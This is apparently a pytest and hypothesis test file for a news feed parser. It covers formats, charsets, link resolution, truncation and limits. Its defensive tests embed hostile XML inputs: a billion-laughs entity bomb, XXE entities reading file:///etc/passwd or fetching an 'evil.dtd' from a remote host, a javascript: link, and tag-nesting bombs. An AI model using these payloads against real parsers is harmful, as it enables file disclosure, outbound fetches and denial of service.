"""What feeds say, in every format and state that outlets send them in."""

import json
from datetime import UTC, datetime

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from transforms.catalog import Source
from transforms.errors import ParseError
from transforms.feeds import FeedReading, read_feed

SOURCE = Source(source_id="outlet", name="Outlet", hosts=("outlet.example",))
SEEN = datetime(2026, 5, 14, 8, 0, tzinfo=UTC)
URL = "https://outlet.example/feeds/world.xml"


def read(body: bytes | str, content_type: str = "application/rss+xml", **options: int) -> FeedReading:
    data = body.encode() if isinstance(body, str) else body
    return read_feed(data, source=SOURCE, url=URL, seen_at=SEEN, content_type=content_type, **options)


def rss(*items: str, head: str = "") -> str:
    listed = "".join(f"<item>{item}</item>" for item in items)
    return f"{head}<rss version='2.0'><channel><title>Outlet</title>{listed}</channel></rss>"


def item(number: int, more: str = "") -> str:
    return f"<guid isPermaLink='false'>{number}</guid><link>/a/{number}</link><title>第{number}条</title>{more}"


ATOM = """<feed xmlns='http://www.w3.org/2005/Atom'><title>O</title><id>o</id><entry><id>tag:o,1</id>
<link rel='self' href='/self'/><link rel='alternate' href='/a/1'/><title type='html'>A &lt;b&gt;title&lt;/b&gt;</title>
<published>2026-05-14T07:00:00+08:00</published><updated>2026-05-14T07:30:00+08:00</updated>
<author><name>A. Writer</name></author><category term='China'/></entry></feed>"""
RDF = """<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'
xmlns:dc='http://purl.org/dc/elements/1.1/'><channel rdf:about='/'><title>O</title></channel>
<item rdf:about='https://outlet.example/a/1'><title>T</title><link>https://outlet.example/a/1</link>
<dc:date>2026-05-14</dc:date><dc:creator>A. Writer</dc:creator></item></rdf:RDF>"""
RSS_091 = """<rss version='0.91'><channel><title>O</title><item><title>T</title>
<link>https://outlet.example/a/1</link></item></channel></rss>"""
JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "items": [
            {"id": 1, "url": "/a/1", "title": "T", "date_published": "2026-05-14T07:00:00Z", "tags": ["China"],
             "authors": [{"name": "A. Writer"}]},
        ],
    }
)  # fmt: skip


@pytest.mark.parametrize("feed", [rss(item(1)), ATOM, RDF, RSS_091, JSON], ids=["rss", "atom", "rdf", "rss091", "json"])
def test_every_format_gives_its_entry(feed):
    """With an absolute link to the article."""
    reading = read(feed)
    assert [entry.url for entry in reading.entries] == ["https://outlet.example/a/1"]
    assert reading.problems == ()


@pytest.mark.parametrize("feed", [ATOM, RDF, JSON], ids=["atom", "rdf", "json"])
def test_authors_are_kept(feed):
    """As the feed names them."""
    assert read(feed).entries[0].authors == ("A. Writer",)


def test_an_entry_says_what_the_feed_wrote():
    """Id, title, dates and tags of an Atom entry."""
    [entry] = read(ATOM).entries
    assert (entry.entry_id, entry.title) == ("tag:o,1", "A <b>title</b>")
    assert (entry.published, entry.updated) == ("2026-05-14T07:00:00+08:00", "2026-05-14T07:30:00+08:00")
    assert (entry.tags, entry.source_id, entry.seen_at) == (("China",), "outlet", SEEN)


@pytest.mark.parametrize(
    "date",
    [
        "2016/6/29 15:07:41",
        "2026-05-14 07:00:00",
        "2026年5月14日 07:00",
        "Thu, 14 May 2026 07:00 GMT",
        "昨天",
        "2099-01-01",
    ],
)
def test_dates_come_raw(date):
    """What feedparser would misread, a time without a zone, a date in the future: all as written."""
    assert read(rss(item(1, f"<pubDate>{date}</pubDate>"))).entries[0].published == date


def test_no_date_is_made_up():
    """A missing update is empty, and not the publication once more."""
    [entry] = read(rss(item(1, "<pubDate>Thu, 14 May 2026 07:00:00 GMT</pubDate>"))).entries
    assert entry.updated == ""


@pytest.mark.parametrize(
    ("link", "url"),
    [
        ("/a/1", "https://outlet.example/a/1"),
        ("../a/1", "https://outlet.example/a/1"),
        ("?id=1", "https://outlet.example/feeds/world.xml?id=1"),
        ("//m.outlet.example/a", "https://m.outlet.example/a"),
        (" \n https://outlet.example/a?x=1&amp;y=2 \n", "https://outlet.example/a?x=1&y=2"),
    ],
)
def test_relative_links_are_resolved(link, url):
    """Against the address at which the feed was found."""
    assert read(rss(f"<link>{link}</link>")).entries[0].url == url


def test_xml_base_counts():
    """An Atom feed may name another base for its links."""
    feed = "<feed xmlns='http://www.w3.org/2005/Atom' xml:base='https://cdn.example/x/'><entry><link href='a/1'/></entry></feed>"
    assert read(feed).entries[0].url == "https://cdn.example/x/a/1"


def test_a_guid_that_is_a_permalink_is_the_link():
    """RSS says so where it says nothing else."""
    [entry] = read(rss("<guid>https://outlet.example/a/1</guid>")).entries
    assert entry.url == entry.entry_id == "https://outlet.example/a/1"


@pytest.mark.parametrize("link", ["", "<link></link>", "<link>javascript:alert(1)</link>", "<link>mailto:a@b.c</link>"])
def test_an_entry_without_a_link_is_reported(link):
    """By its id, as a problem of the feed; the others stay."""
    reading = read(rss(f"<guid isPermaLink='false'>7</guid>{link}", item(1)))
    assert [entry.entry_id for entry in reading.entries] == ["1"]
    assert [(p.stage, p.expectation, p.record_id) for p in reading.problems] == [("feed", "has_link", "7")]


def test_an_entry_listed_twice_is_one():
    """The first counts."""
    reading = read(rss(item(1), item(1, "<description>again</description>"), item(2)))
    assert [entry.entry_id for entry in reading.entries] == ["1", "2"]


def test_the_same_guid_for_everything_identifies_nothing():
    """The links stand in for it."""
    reading = read(rss(*(f"<guid isPermaLink='false'>x</guid><link>/a/{n}</link>" for n in range(3))))
    assert [entry.entry_id for entry in reading.entries] == [f"https://outlet.example/a/{n}" for n in range(3)]


def fingerprint(more: str) -> str:
    return read(rss(item(1, more))).entries[0].fingerprint


@pytest.mark.parametrize(
    "more",
    [
        "<description>words</description>",
        "<pubDate>2026-05-14</pubDate>",
        "<atom:updated xmlns:atom='http://www.w3.org/2005/Atom'>2026-05-14</atom:updated>",
        "<content:encoded xmlns:content='http://purl.org/rss/1.0/modules/content/'>words</content:encoded>",
    ],
)
def test_the_fingerprint_changes_with_what_is_said(more):
    """Summary, content and dates."""
    assert fingerprint(more) != fingerprint("")


@pytest.mark.parametrize(
    "more",
    [
        "<slash:comments xmlns:slash='http://purl.org/rss/1.0/modules/slash/'>41</slash:comments>",
        "<description></description>",
        "<title>第1条</title>",
    ],
)
def test_the_fingerprint_stays_for_what_says_nothing(more):
    """Counters of comments, empty fields."""
    assert fingerprint(more) == fingerprint("")
    assert fingerprint("").startswith("1:")


def test_a_feed_cut_in_half_gives_its_whole_entries():
    """Wherever it is cut; the problem says that something is missing."""
    whole = rss(
        *(item(n, "<description>words &amp; words</description>") for n in range(4)), head="<?xml version='1.0'?>"
    )
    for end in range(whole.index("</item>") + 7, len(whole) - 12):
        reading = read(whole.encode()[: end - len(whole) + len(whole.encode())])
        assert [entry.entry_id for entry in reading.entries] == [str(n) for n in range(len(reading.entries))]
        assert [problem.expectation for problem in reading.problems] == ["feed_complete"]


def test_a_feed_cut_within_a_character_keeps_its_charset():
    """Half of 第 at the end is no reason to read the rest as Latin."""
    body = rss(item(1), item(2)).encode()
    cut = body.rindex("第".encode()) + 1
    assert [entry.title for entry in read(body[:cut]).entries] == ["第1条"]


@pytest.mark.parametrize("charset", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-32"])
def test_byte_order_marks_count(charset):
    """Also without a declaration, and where the header says something else."""
    head = "<?xml version='1.0' encoding='utf-16'?>" if "16" in charset else ""
    assert read(rss(item(1), head=head).encode(charset), "text/xml; charset=utf-8").entries[0].title == "第1条"


def test_a_utf_16_feed_cut_in_half():
    """In the middle of a character, even."""
    body = rss(item(1), item(2)).encode("utf-16")
    assert [entry.title for entry in read(body[:-61]).entries] == ["第1条"]


@pytest.mark.parametrize(
    ("charset", "declared", "title"),
    [
        ("gb18030", "gb2312", "朱镕基"),
        ("gb18030", "gbk", "朱镕基"),
        ("big5hkscs", "big5", "啓德"),
        ("cp1252", "iso-8859-1", "“China’s”"),
        ("utf-8", "", "白宫"),
        ("gb18030", "", "白宫和中南海"),
    ],
)
def test_declared_charsets_are_read_as_their_supersets(charset, declared, title):
    """By XML declaration, or by header, or by neither."""
    head = f"<?xml version='1.0' encoding='{declared}'?>" if declared else "<?xml version='1.0'?>"
    feed = rss(f"<link>/a</link><title>{title}</title>", head=head)
    assert read(feed.encode(charset), "text/xml").entries[0].title == title
    by_header = rss(f"<link>/a</link><title>{title}</title>").encode(charset)
    assert read(by_header, f"text/xml; charset={declared}" if declared else "").entries[0].title == title


def test_a_charset_that_does_not_exist_is_passed_over():
    """UTF-8 it is."""
    assert read(rss(item(1)), "text/xml; charset=klingon").entries[0].title == "第1条"
    assert read(rss(item(1)), "text/xml; charset=base64").entries[0].title == "第1条"


def test_a_few_bad_bytes_do_not_cost_the_charset():
    """They become U+FFFD, and the rest stays Chinese."""
    body = rss(
        *(item(n, "<description>白宫和中南海</description>") for n in range(9)),
        head="<?xml version='1.0' encoding='gb2312'?>",
    )
    [first, *_] = read(body.encode("gb18030").replace("第0".encode("gb18030"), b"\xff0")).entries
    assert first.title == "\ufffd0条"


def test_nuls_and_control_characters_are_left_out():
    """XML forbids them, outlets send them."""
    assert (
        read(rss(item(1, "<description>a\x00b\x0bc\x1b</description>")).replace("第", "\x00第")).entries[0].title
        == "第1条"
    )


def test_a_hundred_thousand_entries_end_at_the_limit():
    """The first are read, and one problem counts the rest."""
    reading = read(rss(*(item(n) for n in range(100_000))), max_entries=50)
    assert [entry.entry_id for entry in reading.entries] == [str(n) for n in range(50)]
    assert [problem.expectation for problem in reading.problems] == ["within_entries"]
    assert "100,000 entries; the first 50" in reading.problems[0].reason


def test_a_json_feed_ends_at_the_limit_too():
    """The same for JSON Feed."""
    items = [{"id": str(n), "url": f"/a/{n}"} for n in range(9)]
    reading = read(json.dumps({"version": "https://jsonfeed.org/version/1", "items": items}), max_entries=4)
    assert (len(reading.entries), reading.problems[0].expectation) == (4, "within_entries")


LAUGHS = "<!DOCTYPE r [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {name} '{f'&{before};' * 10}'>" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("doctype", "entity"),
    [
        (f"{LAUGHS}]>", "&i;"),
        ("<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "&x;"),
        ("<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://10.0.0.1/evil.dtd'> %p;]>", "&x;"),
        ("<!DOCTYPE r SYSTEM 'http://10.0.0.1/evil.dtd'>", "&x;"),
        ("<!DOCTYPE r [<!ENTITY x '<item><link>/evil</link></item>'>]>", "&x;"),
    ],
    ids=["laughs", "file", "parameter", "dtd", "markup"],
)
def test_xml_entities_bring_nothing_in(doctype, entity):
    """Neither a billion laughs nor a file nor another document; the other entries stay."""
    reading = read(rss(item(1, f"<description>{entity}</description>"), item(2), head=doctype))
    assert [entry.entry_id for entry in reading.entries] == ["1", "2"]
    assert "root:" not in str(reading)
    assert len(str(reading)) < 5_000


@pytest.mark.parametrize(
    ("inside", "told"),
    [
        ("<a>" * 100_000, "tags more than 500 deep"),
        ("<a xml:base='b/'>" * 50_000, "tags more than 500 deep"),
        ("<a " + " ".join(f"b{n}=''" for n in range(50_000)) + ">", "a tag of more than"),
        ("".join(f"<x{n}:y xmlns:x{n}='u{n}'/>" for n in range(50_000)), "namespaces"),
        ("<a" * 400_000, "more than 300,000 tags"),
    ],
    ids=["deep", "bases", "attributes", "namespaces", "tags"],
)
def test_shapes_that_would_cost_the_square_of_their_size(inside, told):
    """They are told as what they are, before any parser sees them."""
    with pytest.raises(ParseError, match=told):
        read(rss(inside))


@pytest.mark.parametrize("inside", ["<!--" * 200_000, "<![CDATA[" * 100_000, "<" * 50_000, "&" * 50_000])
def test_openings_without_an_end(inside):
    """They cost no more than their length; the entry before them stays."""
    assert [entry.entry_id for entry in read(rss(item(1)).replace("</channel>", inside)).entries] == ["1"]


def test_html_entities_and_bare_ampersands_are_read():
    """What is not well-formed XML, and yet common."""
    [entry] = read(rss("<link>/a</link><title>US&nbsp;&amp; China & others</title>")).entries
    assert entry.title == "US & China & others"


def test_a_feed_without_entries_is_a_feed():
    """It lists nothing."""
    assert read(rss()) == FeedReading(())


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b"<html><body>Checking your browser</body></html>",
        b"<!doctype html><title>404</title><item><link>/a</link></item>",
        b"\x89PNG\r\n\x1a\n",
        b"{}",
        b"[]",
        b"{" * 100_000,
        b'{"version": "https://example.org/", "items": []}',
        b"<?xml version='1.0'?><urlset/>",
        b"not a feed",
    ],
)
def test_what_is_no_feed_is_told(body):
    """With the address and a remedy."""
    with pytest.raises(ParseError, match="is no feed") as failure:
        read(body)
    assert (failure.value.expectation, failure.value.url, failure.value.source_id) == ("is_a_feed", URL, "outlet")


PIECES = st.sampled_from(
    ["<rss version='2.0'>", "<channel>", "<item>", "</item>", "<link>", "/a", "</link>", "<![CDATA[", "]]>", "<!--", "&#x0;",
     "&#99999999999;", "<title>", "</title>", "<feed xmlns='http://www.w3.org/2005/Atom'>", "<entry>", "</entry>", "</rss>",
     "<?xml version='1.0' encoding='", "utf-7", "'?>", "<!DOCTYPE", "<!ENTITY", "]>", "&", "\x00", "中", "<svg>", "</svg>",
     "<content type='xhtml'>", "<link href='http://[::1'/>", "<guid>", "http://[", "<dc:date>", "<media:content", "<a:b c"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.binary(max_size=300), st.lists(PIECES, max_size=40).map(lambda pieces: "".join(pieces).encode())))
@example(b"<rss version='2.0'><item><link>http://[::1</link></item>")
def test_any_bytes_are_a_feed_or_a_parse_error(body):
    """Nothing else is raised, and every entry has an absolute link."""
    try:
        reading = read(body, "")
    except ParseError:
        return
    assert all(entry.url.startswith(("http://", "https://")) for entry in reading.entries)


@settings(max_examples=100, deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.floats() | st.text(max_size=5), lambda inner: st.lists(inner, max_size=4)
    )
)
def test_any_json_in_a_json_feed_is_read_or_left(value):
    """Values of a wrong type are no reason to lose the feed."""
    entry = {"id": "1", "url": "/a", "title": value, "authors": value, "tags": value, "date_published": value}
    feed = {"version": "https://jsonfeed.org/version/1.1", "items": [entry, value]}
    assert read(json.dumps(feed)).entries[0].entry_id == "1"
